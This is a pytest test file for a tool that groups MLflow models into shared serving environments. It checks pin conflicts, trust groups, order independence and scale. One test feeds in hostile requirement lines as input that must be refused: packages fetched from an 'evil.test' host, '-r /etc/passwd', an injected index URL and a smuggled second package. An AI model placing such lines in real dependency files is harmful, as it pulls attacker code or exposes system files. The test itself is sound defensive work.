"""The plan of serving environments: few for many, the same in any order, and no addition moves another model."""

from __future__ import annotations

import random
import time
from collections.abc import Sequence
from pathlib import Path

import msgspec
import pytest

from m2g.core.config_types import Config
from m2g.core.errors import InputError
from m2g.core.model import Mlmodel
from m2g.image.environment_plan import Candidate, EnvironmentPlan, plan_environments
from m2g.image.lock import lock_for_platforms, lock_requirements
from m2g.serving.environments import EnvironmentNeed, describe_need
from tests.support.environments import lock_of
from tests.support.images import UV, wheel

INDEX = {
    "mlflow": ["3.4.0", "3.17.2"],
    "mlserver": ["1.7.1"],
    "mlserver-mlflow": ["1.7.1"],
    "uvloop": ["0.21.0"],
    "numpy": ["1.26.4", "2.4.6"],
    "pandas": ["2.3.3"],
    "lightgbm": ["4.6.0"],
    "xgboost": ["3.1.0"],
    "own": ["1"],
    "scikit-learn": ["1.5.2", "1.9.1"],
}


@pytest.fixture
def wheels(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The real uv, with nothing but an index of small wheels in a folder."""
    if not UV.exists():
        pytest.fail("uv is missing; `make test` installs it", pytrace=False)
    folder = tmp_path / "wheels"
    for name, versions in INDEX.items():
        for version in versions:
            wheel(folder, name, version)
    wheel(folder, "catboost", "1.2.8", "numpy<2")
    wheel(folder, "statsmodels", "0.15.0", "numpy>=2")
    for name, value in {"UV_OFFLINE": "1", "UV_FIND_LINKS": str(folder), "UV_CACHE_DIR": str(tmp_path / "uv")}.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("M2G_UV", str(UV))
    return folder


def config(**sharing: object) -> Config:
    allowed = ["numpy", "scikit-learn", "lightgbm", "xgboost", "catboost", "statsmodels"]
    given = {"groups": {"everyone": ["*"]}, "packages": allowed} | sharing
    return msgspec.convert(
        {"version": 1, "environments": {"dev": {"namespace": "d"}}, "images": {"sharing": given}}, Config
    )


def needs(settings: Config, name: str, *lines: str, python: str = "3.11.7", version: str = "1") -> Candidate:
    mlmodel = Mlmodel(sha256="0" * 64, flavors=(), mlflow_version="3.17.2", python_version=python, requirements=lines)
    need = describe_need(settings, name, mlmodel, "mlserver")
    return Candidate(model=name, version=version, environments=("dev",), need=need)


class Uv:
    """The real uv, and how often it was asked."""

    def __init__(self) -> None:
        self.asked = 0

    def __call__(self, need: EnvironmentNeed) -> str:
        self.asked += 1
        return lock_requirements(need.lines, python=need.python)


def groups(plan: EnvironmentPlan) -> list[tuple[str, ...]]:
    return sorted(one.versions for one in plan.new)


def test_models_that_fit_share_one_environment(wheels: Path) -> None:
    settings, uv = config(), Uv()
    many = [
        needs(settings, "wine", "mlflow==3.17.2", "numpy==2.4.6", "scikit-learn==1.9.1"),
        needs(settings, "iris", "mlflow==3.17.2", "lightgbm==4.6.0"),
        needs(settings, "churn", "mlflow==3.17.2", "xgboost==3.1.0", "numpy<3"),
    ]
    plan = plan_environments(settings, many, {}, uv)
    assert groups(plan) == [("churn/1", "iris/1", "wine/1")]
    assert uv.asked == 1
    environment = plan.new[0].recorded.environment
    assert (environment.group, environment.model, environment.python) == ("everyone", "", "3.11")
    assert {"numpy": "2.4.6", "lightgbm": "4.6.0", "xgboost": "3.1.0"}.items() <= plan.new[0].recorded.packages.items()


def test_pins_that_contradict_keep_apart_and_the_reason_is_said(wheels: Path) -> None:
    settings, uv = config(), Uv()
    many = [
        needs(settings, "old", "mlflow==3.17.2", "numpy==1.26.4"),
        needs(settings, "new", "mlflow==3.17.2", "numpy==2.4.6"),
        needs(settings, "newer", "mlflow==3.17.2", "numpy>=2", "lightgbm"),
    ]
    plan = plan_environments(settings, many, {}, uv)
    assert groups(plan) == [("new/1", "newer/1"), ("old/1",)]
    assert [one.why for one in plan.apart] == ["numpy==1.26.4 and numpy>=2"]


def test_what_only_the_resolver_knows_keeps_apart_too(wheels: Path) -> None:
    settings, uv = config(), Uv()
    many = [needs(settings, f"m{number}", "mlflow==3.17.2", f"lightgbm>={number}.0") for number in range(4)]
    many += [
        needs(settings, "cat", "mlflow==3.17.2", "catboost==1.2.8"),
        needs(settings, "stats", "mlflow==3.17.2", "statsmodels==0.15.0"),
    ]
    plan = plan_environments(settings, many, {}, uv)
    assert len(plan.new) == 2
    assert {name for one in plan.new for name in one.versions} == {one.name for one in many}
    assert any("numpy" in one.why for one in plan.apart)


def test_one_bad_model_is_named_and_holds_nobody(wheels: Path) -> None:
    settings, uv = config(packages=["numpy", "lightgbm", "missing"]), Uv()
    many = [
        needs(settings, "wine", "mlflow==3.17.2", "numpy==2.4.6"),
        needs(settings, "bad", "mlflow==3.17.2", "missing==1.0"),
        needs(settings, "iris", "mlflow==3.17.2", "lightgbm"),
    ]
    plan = plan_environments(settings, many, {}, uv)
    assert groups(plan) == [("iris/1", "wine/1")]
    assert [one.versions for one in plan.unplanned] == [("bad/1",)]
    assert "missing" in plan.unplanned[0].message


@pytest.mark.attack
def test_a_package_outside_of_the_allow_list_comes_under_nobody_else(wheels: Path) -> None:
    settings, uv = config(), Uv()
    many = [
        needs(settings, "wine", "mlflow==3.17.2", "numpy==2.4.6"),
        needs(settings, "mallory", "mlflow==3.17.2", "numpy==2.4.6", "own==1"),
        needs(settings, "mallory-2", "mlflow==3.17.2", "numpy==2.4.6", "own==1"),
    ]
    plan = plan_environments(settings, many, {}, uv)
    assert groups(plan) == [("mallory-2/1",), ("mallory/1",), ("wine/1",)]
    by_name = {one.versions[0]: one.recorded for one in plan.new}
    assert "own" not in by_name["wine/1"].packages
    assert [by_name[f"{name}/1"].environment.model for name in ("mallory", "mallory-2", "wine")] == [
        "mallory",
        "mallory-2",
        "",
    ]


@pytest.mark.attack
def test_a_trust_group_gets_no_package_of_another(wheels: Path) -> None:
    settings, uv = config(groups={"fraud": ["fraud-*"], "rest": ["wine*"]}), Uv()
    many = [
        needs(settings, "wine", "mlflow==3.17.2", "numpy==2.4.6"),
        needs(settings, "fraud-a", "mlflow==3.17.2", "numpy==2.4.6", "lightgbm"),
        needs(settings, "nobody", "mlflow==3.17.2", "numpy==2.4.6"),
    ]
    plan = plan_environments(settings, many, {}, uv)
    assert groups(plan) == [("fraud-a/1",), ("nobody/1",), ("wine/1",)]


@pytest.mark.attack
@pytest.mark.parametrize(
    "line",
    [
        "numpy @ https://evil.test/numpy-2.4.6-py3-none-any.whl",
        "git+https://evil.test/x",
        "./evil-1.0-py3-none-any.whl",
        "-e .",
        "-r /etc/passwd",
        "--find-links file:///tmp",
        "numpy==2.4.6 --hash=sha256:" + "0" * 64,
        "numpy==2.4.6 \\\n--index-url https://evil.test",
        "numpy==2.4.6\u2028own==1",
    ],
)
def test_a_hostile_line_is_refused_before_any_model_is_merged(line: str) -> None:
    with pytest.raises(InputError):
        needs(config(), "mallory", "mlflow==3.17.2", line)


def test_an_addition_moves_nobody(wheels: Path) -> None:
    settings, uv = config(), Uv()
    first = [
        needs(settings, "wine", "mlflow==3.17.2", "numpy==2.4.6", "lightgbm"),
        needs(settings, "old", "mlflow==3.17.2", "numpy==1.26.4"),
    ]
    before = plan_environments(settings, first, {}, uv)
    recorded = {one.recorded.id: one.recorded for one in before.new}
    uv.asked = 0
    added = [
        needs(settings, "twin", "mlflow==3.17.2", "numpy==2.4.6"),
        needs(settings, "more", "mlflow==3.17.2", "xgboost==3.1.0"),
    ]
    after = plan_environments(settings, [*first, *added], recorded, uv)
    homes = {name: one for one, names in after.joins.items() for name in names}
    for one in before.new:
        assert {homes[name] for name in one.versions} == {one.recorded.id}
    assert homes["twin/1"] == homes["wine/1"]
    assert groups(after) == [("more/1",)]
    assert uv.asked == 1


def test_any_order_gives_the_same_plan(wheels: Path) -> None:
    settings = config()
    many = [
        needs(settings, f"m{number}", "mlflow==3.17.2", *choice)
        for number, choice in enumerate(
            [("numpy==2.4.6",), ("numpy==1.26.4",), ("lightgbm",), ("xgboost", "numpy<2"), ("catboost==1.2.8",)]
        )
    ]
    plans = []
    for seed in range(3):
        random.Random(seed).shuffle(many)
        plans.append(plan_environments(settings, many, {}, Uv()))
    assert plans[0] == plans[1] == plans[2]


def test_size_has_a_bound(wheels: Path) -> None:
    settings, uv = config(maxPackages=6), Uv()
    many = [
        needs(settings, "a", "mlflow==3.17.2", "numpy"),
        needs(settings, "b", "mlflow==3.17.2", "lightgbm"),
    ]
    plan = plan_environments(settings, many, {}, uv)
    assert groups(plan) == [("a/1",), ("b/1",)]
    assert "maxPackages is 6" in plan.apart[0].why


def test_without_groups_every_model_has_its_own(wheels: Path) -> None:
    settings, uv = config(groups={}), Uv()
    many = [
        needs(settings, name, "mlflow==3.17.2", "numpy==2.4.6", version=version)
        for name in ("a", "b")
        for version in ("1", "2")
    ]
    plan = plan_environments(settings, many, {}, uv)
    assert groups(plan) == [("a/1", "a/2"), ("b/1", "b/2")]


def test_pythons_and_servers_are_not_mixed(wheels: Path) -> None:
    settings, uv = config(), Uv()
    many = [
        needs(settings, "a", "mlflow==3.17.2", python="3.11.7"),
        needs(settings, "b", "mlflow==3.17.2", python="3.12.1"),
    ]
    assert groups(plan_environments(settings, many, {}, uv)) == [("a/1",), ("b/1",)]


def test_a_lock_for_two_platforms(wheels: Path) -> None:
    wheel(wheels, "needy", "1", 'xgboost==3.1.0 ; platform_machine == "x86_64"', "numpy")
    text = lock_for_platforms(["needy"], python="3.11", platforms=("linux/amd64", "linux/arm64"))
    assert [line.removesuffix(" \\") for line in text.splitlines() if "==" in line and "--hash" not in line] == [
        "needy==1",
        "numpy==2.4.6",
        "xgboost==3.1.0 ; platform_machine == 'x86_64'",
    ]
    one = lock_requirements(["needy"], python="3.11", platform="linux/arm64")
    assert "xgboost" not in one


def test_a_newest_version_without_a_wheel_for_one_platform_is_not_the_end(wheels: Path) -> None:
    wheel(wheels, "needy", "1", "leads")
    wheel(wheels, "leads", "1")
    wheel(wheels, "leads", "2")
    (wheels / "leads-2-py3-none-any.whl").rename(wheels / "leads-2-py3-none-manylinux_2_17_x86_64.whl")
    alone = lock_for_platforms(["needy"], python="3.11", platforms=("linux/amd64",))
    both = lock_for_platforms(["needy"], python="3.11", platforms=("linux/amd64", "linux/arm64"))
    assert ("leads==2" in alone, "leads==1" in both) == (True, True)


def _kinds() -> Sequence[tuple[str, ...]]:
    return [
        (f"numpy=={numpy}", f"scikit-learn=={sklearn}", *more)
        for numpy in ("2.4.6", "2.4.5")
        for sklearn in ("1.9.1", "1.5.2")
        for more in ((), ("lightgbm==4.6.0",), ("xgboost==3.1.0",), ("lightgbm==4.6.0", "xgboost==3.1.0"))
    ]


def test_a_thousand_models_need_a_handful_and_no_uv_to_join() -> None:
    settings = config()
    kinds = _kinds()
    many = [needs(settings, f"m{number}", "mlflow==3.17.2", *kinds[number % len(kinds)]) for number in range(1000)]

    def lock(need: EnvironmentNeed) -> str:
        pins = dict(line.split("==") for line in need.lines if "==" in line)
        return lock_of({"pandas": "2.3.3", "uvloop": "0.21.0"} | pins)

    first = plan_environments(settings, many, {}, lock)
    assert len(first.new) == 4
    recorded = {one.recorded.id: one.recorded for one in first.new}

    def nobody(_need: EnvironmentNeed) -> str:
        raise AssertionError("uv was asked")

    start = time.process_time()
    plan = plan_environments(settings, many, recorded, nobody)
    assert time.process_time() - start < 5
    assert sum(map(len, plan.joins.values())) == 1000
